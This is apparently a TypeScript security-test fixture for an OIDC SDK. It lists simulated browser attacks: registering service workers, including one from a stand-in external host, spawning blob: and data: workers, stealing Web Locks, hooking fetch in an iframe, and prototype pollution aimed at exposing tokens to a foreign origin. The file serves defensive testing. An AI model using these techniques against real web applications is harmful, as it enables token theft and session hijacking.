/* oxlint-disable no-extend-native, unicorn/no-thenable -- An attacker does what a rule forbids. */
import type { Attack } from './attack.ts'

/** Script that looks for another place to run, or bends the ground that the SDK stands on. */
export const FOOTHOLDS: readonly Attack[] = [
  {
    name: 'registers a service worker',
    when: ['late'],
    run: async ({ take, vault }) => {
      const urls = [
        `data:text/javascript,1`,
        URL.createObjectURL(new Blob(['1'], { type: 'text/javascript' })),
        '/oidc/echo',
        'http://elsewhere.invalid/sw.js',
        ...(vault.url ? [vault.url] : []),
      ]
      for (const url of urls) {
        await navigator.serviceWorker?.register(url).then(
          (one) => {
            take(`HARM: a service worker was registered from ${url}`)
            return one.unregister()
          },
          () => {},
        )
      }
    },
  },
  {
    name: 'starts workers of blob: and data:',
    when: ['late'],
    run: ({ take }) => {
      const code = `postMessage('HARM: a worker of the attacker runs here')`
      const urls = [
        `data:text/javascript,${encodeURIComponent(code)}`,
        URL.createObjectURL(new Blob([code], { type: 'text/javascript' })),
      ]
      for (const url of urls) {
        try {
          new Worker(url).onmessage = ({ data }) => take(data)
        } catch {
          // Refused.
        }
      }
      return () => new Promise((resolve) => setTimeout(resolve, 200))
    },
  },
  {
    name: 'takes every lock',
    when: ['late'],
    run: async ({ take }) => {
      const { held = [], pending = [] } = await navigator.locks.query()
      take([...held, ...pending].map(({ name }) => name))
      for (const { name } of held) {
        if (!name?.startsWith('latchkey:alive'))
          void navigator.locks
            .request(
              name!,
              { steal: true },
              () => new Promise((resolve) => setTimeout(resolve, 100)),
            )
            .catch(() => {})
      }
      await oidcHarness.session.refresh().catch(take)
    },
  },
  {
    name: 'opens frames with fresh intrinsics',
    when: ['late'],
    run: async ({ take }) => {
      const frame = document.createElement('iframe')
      document.body.append(frame)
      const inner = frame.contentWindow as never as typeof globalThis
      inner.fetch = ((...args: Parameters<typeof fetch>) => (take(args), fetch(...args))) as never
      for (const name of ['state', 'events']) take(Reflect.get(oidcHarness.session, name))
      frame.remove()
    },
  },
  {
    name: 'pollutes the options of the SDK',
    when: ['early'],
    steals: { page: 'early' },
    alone: true,
    run: ({ take, foreign }) => {
      const wanted = {
        exposeToken: true,
        allowedOrigins: [foreign],
        isolates: false,
        prefer: 'page',
        persist: 'sealed',
        extractable: true,
        redirect: 'follow',
      }
      for (const [name, value] of Object.entries(wanted)) {
        Object.defineProperty(Object.prototype, name, { configurable: true, writable: true, value })
      }
      return async () => {
        const { session } = oidcHarness
        take(await session.getToken().catch(() => undefined))
        const answer = await session.fetch(`${foreign}/oidc/orders`).catch(() => undefined)
        take(await answer?.text())
      }
    },
  },
]
